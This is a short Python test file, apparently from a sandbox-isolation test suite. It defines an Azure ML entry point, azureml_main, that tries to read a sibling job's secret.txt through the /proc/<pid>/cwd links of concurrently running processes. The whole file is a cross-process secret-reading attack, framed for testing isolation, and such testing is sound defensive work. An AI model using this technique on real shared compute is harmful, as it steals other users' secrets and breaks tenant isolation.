"""Reads a file of the job that runs at the same time through the folders of its processes."""

from attack import BAIT, attack, every, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(lambda pid: read(f"/proc/{pid}/cwd/secret.txt"), BAIT["sibling_pids"])
